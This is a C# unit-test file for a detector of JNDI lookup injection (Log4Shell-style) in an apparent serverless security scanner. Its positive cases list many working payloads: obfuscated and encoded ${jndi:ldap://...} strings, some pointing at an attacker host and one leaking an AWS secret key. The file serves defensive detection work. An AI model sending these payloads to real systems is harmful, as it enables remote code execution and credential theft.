namespace ServerlessShield.Tests.Inspection.Detectors;

public class JndiLookupDetectorTests
{
    private static readonly InjectionScanner Scanner = new([new JndiLookupDetector()]);

    [Theory]
    [InlineData("${jndi:ldap://attacker.example/a}")]
    [InlineData("${JnDi:rmi://10.0.0.5:1099/obj}")]
    [InlineData("User-Agent: curl ${jndi:dns://x.example}")]
    [InlineData("${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://h/x}")]
    [InlineData("${${upper:j}ndi:ldaps://h/x}")]
    [InlineData("${${::-j}${::-n}${::-d}${::-i}:iiop://h/x}")]
    [InlineData("${${env:UNSET_VAR:-j}ndi${env:OTHER:-:}ldap://h/x}")]
    [InlineData("${j${k8s:k5:-ND}i:ldap://h/x}")]
    [InlineData("${${date:'j'}${date:'n'}di:ldap://h/x}")]
    [InlineData("${jnd${upper:ı}:ldap://h/x}")]
    [InlineData("$${::-${::-$}{jndi:ldap://h/x}}")]
    [InlineData("${::-x$}{jndi:rmi://h/x}")]
    [InlineData("${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}")]
    [InlineData("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fx%7D")]
    [InlineData("$%7B$%7Blower:j%7Dndi:ldap://h/x%7D")]
    [InlineData("\\u0024\\u007bjndi:ldap://h/x}")]
    [InlineData("&#36;&#123;jndi:ldap://h/x&#125;")]
    [InlineData("$&lbrace;jndi:ldap://h/x}")]
    public void IsMatch_JndiLookups_AreDetected(string value) =>
        Assert.NotEmpty(Scanner.Scan(value));

    [Theory]
    [InlineData("Costs $5 {approx}")]
    [InlineData("echo ${HOME} and ${PATH:-/usr/bin}")]
    [InlineData("${user.name} logged in from ${env:REGION}")]
    [InlineData("The JNDI name is java:comp/env/jdbc/orders")]
    [InlineData("See the jndi: documentation for ldap: servers")]
    [InlineData("${lower:HELLO} ${upper:world}")]
    [InlineData("${${env:X:-a}${env:Y:-b}}")]
    public void IsMatch_OrdinaryValues_AreNotDetected(string value) =>
        Assert.Empty(Scanner.Scan(value));

    [Theory]
    [InlineData("${", 1 << 19)]
    [InlineData("$", 1 << 20)]
    [InlineData("${::-", 1 << 18)]
    [InlineData("}", 1 << 20)]
    [InlineData("jndi:ldap:", 1 << 17)]
    public void IsMatch_PathologicalInput_Completes(string unit, int count)
    {
        var value = string.Concat(Enumerable.Repeat(unit, count));
        _ = new JndiLookupDetector().IsMatch(value);
        _ = new JndiLookupDetector().IsMatch(value + "${jndi:x}");
    }

    [Fact]
    public void IsMatch_DeepNesting_Completes()
    {
        var value = string.Concat(Enumerable.Repeat("${a:-", 1 << 17)) + "jndi:x" + new string('}', 1 << 17);
        _ = new JndiLookupDetector().IsMatch(value);
    }
}
